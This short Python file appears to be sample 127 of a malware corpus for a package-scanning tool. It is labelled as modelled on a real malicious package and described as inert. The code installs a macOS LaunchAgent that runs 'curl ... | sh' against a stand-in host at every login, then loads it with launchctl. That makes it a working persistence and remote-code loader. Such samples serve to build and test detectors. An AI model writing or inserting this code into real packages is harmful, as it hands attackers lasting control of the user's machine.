# pkgguard corpus 127 (persistence), modelled on [telnyx]; inert, never run.
import os
import plistlib
import subprocess

path = os.path.expanduser("~/Library/LaunchAgents/com.pkg.helper.plist")
with open(path, "wb") as f:
    plistlib.dump({"Label": "com.pkg.helper", "ProgramArguments": ["/bin/sh", "-c", "curl -s https://cdn.example/m | sh"], "RunAtLoad": True}, f)
subprocess.call(["launchctl", "load", "-w", path])
